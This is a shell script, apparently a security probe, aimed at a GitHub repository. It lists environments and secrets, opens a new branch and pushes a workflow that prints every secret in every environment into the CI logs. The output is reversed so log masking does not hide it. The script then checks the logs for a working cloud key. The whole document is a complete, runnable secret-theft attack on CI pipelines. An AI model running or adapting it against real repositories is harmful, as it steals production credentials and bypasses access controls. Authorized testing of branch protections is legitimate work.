# Somebody who can push opens a branch. Its workflow prints every secret that it gets, in every environment that there is.
repo=lantern-tides/tides
file=.github/workflows/look.yml
gh api "repos/$repo/environments" --jq '.environments[].name' > environments
# Where nothing is stored that a branch gets, no workflow finds anything.
limited() { [ "$(gh api "repos/$repo/environments/$1/deployment-branch-policies" --jq '[.branch_policies[].name] | join(" ")' 2> /dev/null)" = main ]; }
shared=$(gh api "repos/$repo/actions/secrets" --jq .total_count)$(gh api "repos/$repo/actions/organization-secrets" --jq .total_count)
open=no
while read -r environment; do limited "$environment" || open=yes; done < environments
if [ "$shared$open" = 00no ]; then
  say "No secret is stored where a branch could get it."
  exit 1
fi
{
  printf 'on: push\njobs:\n'
  n=0
  while read -r environment; do
    n=$(( n + 1 ))
    printf '  look%s:\n    runs-on: ubuntu-latest\n' "$n"
    [ "$environment" = - ] || printf '    environment: %s\n' "$environment"
    printf '    steps:\n      - run: printenv ALL | rev\n        env:\n          ALL: ${{ toJSON(secrets) }}\n'
  done < <(echo -; cat environments)
} > look.yml
gh api -X POST "repos/$repo/git/refs" -f ref=refs/heads/try-it -f sha="$(gh api "repos/$repo/commits/main" --jq .sha)" --silent || { say "The forge took no branch."; exit 1; }
gh api -X PUT "repos/$repo/contents/$file" -f message="Try it" -f branch=try-it -f content="$(base64 -w0 look.yml)" --silent || { say "The forge took no workflow."; exit 1; }
sleep 2m
runs=$(gh api "repos/$repo/actions/runs?branch=try-it" --jq '[.workflow_runs[].id] | join("|")')
trace any ci.logs --at "run (${runs:-none}) " > copies
while IFS=$'\t' read -r surface place id rest; do
  [ "$id" != oldKey ] && credential "$id" | jq -e '.works and .issuer == "cloud"' > page || continue
  evidence "$surface" "$place"
  found READ branch=try-it how="$(case "$place" in *look1*) ;; *) echo ", in an environment" ;; esac)"
  say "The branch got the key of production."
  exit 0
done < copies
say "The branch got no key that works."
exit 1
